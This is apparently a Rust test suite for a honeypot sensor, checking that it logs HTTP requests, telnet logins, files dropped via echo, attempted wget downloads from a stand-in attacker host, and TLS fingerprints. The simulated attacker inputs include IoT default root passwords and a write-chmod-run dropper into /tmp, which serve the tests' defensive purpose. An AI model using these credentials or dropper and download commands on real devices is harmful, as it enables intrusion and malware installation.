//! What all handlers share, seen by real clients: logins, samples, downloads, certificate.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

use serde_json::Value;

use crate::lab::engine::Engine;
use crate::lab::events::kind;
use crate::lab::{Lab, SENSOR, at};

const RULES: &str = "
version: 1
rules:
  - {name: web, match: tcp dst port 80, type: log_http}
  - {name: telnet, match: tcp dst port 23, type: handler, target: telnet}
  - {name: mqtts, match: tcp dst port 8883, type: handler, target: mqtts}
";

/// What a loader types; the first two lines are the login.
const UPLOAD: &[u8] =
    b"root\r\nvizxv\r\necho -ne '\\x7f\\x45\\x4c\\x46\\x01' > /tmp/upload; chmod 777 /tmp/upload; /tmp/upload\r\nexit\r\n";

/// A directory for the state of an engine that runs as `nobody`.
fn config(lab: &Lab, samples: &str) -> String {
    let state = lab.path("state");
    // What is made there must be reachable for the engine's user.
    let parent = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(state.parent().unwrap(), parent).unwrap();
    format!("[engine]\nstate_dir = {:?}\n[samples]\n{samples}\n", state.display().to_string())
}

/// Types into telnet, each line at the prompt for it, and waits for the end.
fn telnet(lab: &Lab, lines: &[u8]) -> String {
    let mut stream = lab.dial(at(SENSOR[0], 23));
    let mut heard = Vec::new();
    for line in lines.split_inclusive(|&byte| byte == b'\n') {
        let mut byte = [0];
        while ![": ", "# ", "$ "].iter().any(|prompt| heard.ends_with(prompt.as_bytes())) {
            stream.read_exact(&mut byte).unwrap();
            heard.push(byte[0]);
        }
        stream.write_all(line).unwrap();
        heard.extend_from_slice(b"|");
    }
    stream.read_to_end(&mut heard).unwrap();
    String::from_utf8_lossy(&heard).into_owned()
}

fn the(engine: &mut Engine<'_>, wanted: &str, has: impl Fn(&Value) -> bool) -> Value {
    engine.events.await_event(&format!("the {wanted} event"), |event| kind(event) == wanted && has(event))
}

#[test]
fn curl_reads_an_answer_and_its_request_is_recorded() {
    let lab = Lab::new();
    let mut engine = lab.engine().rules(RULES).start();
    let url = format!("http://{}/setup.cgi?next_file=x", SENSOR[0]);
    assert_eq!(lab.client_says("curl", &["-sS", "-A", "Mozilla/5.0", &url], b""), "OK\n");
    let event = the(&mut engine, "request", |_| true);
    assert_eq!((&event["path"], &event["query"]), (&"/setup.cgi".into(), &"next_file=x".into()));
    engine.stop();
}

#[test]
fn the_second_distinct_login_of_a_source_is_let_in() {
    let lab = Lab::new();
    let config = config(&lab, "") + "[handlers.telnet]\ncredentials = { after = 2 }\n";
    let mut engine = lab.engine().rules(RULES).config(&config).start();
    let heard = telnet(&lab, b"root\r\nxc3511\r\nroot\r\nxc3511\r\nadmin\r\nadmin\r\nid\r\nexit\r\n");
    assert!(heard.contains("Login incorrect") && heard.contains("uid=0"), "{heard}");
    let first = the(&mut engine, "login", |event| event["password"] == "xc3511");
    let second = the(&mut engine, "login", |event| event["password"] == "admin");
    assert_eq!((&first["success"], &second["success"]), (&false.into(), &true.into()));
    engine.stop();
}

#[test]
fn a_file_that_is_uploaded_by_echo_is_stored_under_its_hash() {
    let lab = Lab::new();
    let config = config(&lab, "");
    let mut engine = lab.engine().rules(RULES).config(&config).start();
    telnet(&lab, UPLOAD);
    let event = the(&mut engine, "download", |event| event["name"] == "/tmp/upload");
    let hash = event["payload_hash"].as_str().unwrap().to_owned();
    engine.stop();
    assert_eq!(std::fs::read(lab.path("state/samples").join(&hash)).unwrap(), b"\x7fELF\x01");
    let about = std::fs::read(lab.path("state/samples").join(format!("{hash}.json"))).unwrap();
    let about: Value = serde_json::from_slice(&about).unwrap();
    assert_eq!((&about["handler"], &about["dest_port"]), (&"telnet".into(), &23.into()), "{about}");
}

#[test]
fn a_url_is_recorded_and_nothing_is_fetched_by_default() {
    let lab = Lab::new();
    let listener = lab.attacker(|| TcpListener::bind("10.77.0.1:80")).unwrap();
    listener.set_nonblocking(true).unwrap();
    let config = config(&lab, "");
    let mut engine = lab.engine().rules(RULES).config(&config).start();
    telnet(&lab, b"root\r\nroot\r\nwget http://10.77.0.1/bins.sh\r\nexit\r\n");
    let event = the(&mut engine, "download", |_| true);
    assert_eq!((&event["url"], &event["outcome"]), (&"http://10.77.0.1/bins.sh".into(), &Value::Null), "{event}");
    engine.stop();
    assert!(listener.accept().is_err(), "the sensor has called the attacker");
}

#[test]
fn fetch_gets_a_file_from_a_public_address_and_refuses_a_private_one() {
    let lab = Lab::new();
    // A public address in the attacker's own network; the sensor's default route leads there.
    let ip = ["ip", "addr", "add", "9.9.9.9/32", "dev", "lo"];
    lab.client_says(ip[0], &ip[1..], b"");
    let listener = lab.attacker(|| TcpListener::bind("0.0.0.0:8000")).unwrap();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut request = [0; 1024];
        let length = stream.read(&mut request).unwrap();
        let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nConnection: close\r\n\r\n#!/bin/sh\n";
        stream.write_all(answer).unwrap();
        String::from_utf8_lossy(&request[..length]).into_owned()
    });
    let config = config(&lab, "downloads = \"fetch\"");
    let mut engine = lab.engine().rules(RULES).config(&config).start();
    let lines = b"root\r\nroot\r\nwget http://10.77.0.1:8000/a\r\nwget http://9.9.9.9:8000/b\r\nexit\r\n";
    telnet(&lab, lines);
    let refused = the(&mut engine, "download", |event| event["outcome"] == "refused");
    assert_eq!(refused["reason"], "10.77.0.1 is not a public address");
    let stored = the(&mut engine, "download", |event| event["outcome"] == "stored");
    assert_eq!((&stored["url"], &stored["handler"]), (&"http://9.9.9.9:8000/b".into(), &"telnet".into()));
    let sample = lab.path("state/samples").join(stored["payload_hash"].as_str().unwrap());
    engine.stop();
    assert_eq!(std::fs::read(sample).unwrap(), b"#!/bin/sh\n");
    let request = server.join().unwrap();
    assert!(request.starts_with("GET /b HTTP/1.1\r\n") && request.contains("Wget"), "{request}");
}

#[test]
fn the_certificate_is_the_same_after_a_restart_and_clients_are_fingerprinted() {
    let lab = Lab::new();
    let target = format!("{}:8883", SENSOR[0]);
    let config = config(&lab, "");
    let certificates = [(), ()].map(|()| {
        let mut engine = lab.engine().rules(RULES).config(&config).start();
        let arguments = ["s_client", "-connect", &target, "-servername", "mail.example.net"];
        let said = lab.client_says("openssl", &arguments, b"");
        let event = the(&mut engine, "tls", |event| event["tls"]["sni"] == "mail.example.net");
        assert!(event["tls"]["ja4"].as_str().unwrap().starts_with("t13d"), "{event}");
        engine.stop();
        let (_, rest) = said.split_once("-----BEGIN CERTIFICATE-----").unwrap();
        rest.split_once("-----END CERTIFICATE-----").unwrap().0.to_owned()
    });
    assert_eq!(certificates[0], certificates[1]);
    assert!(Path::new(&lab.path("state/tls.pem")).exists());
}
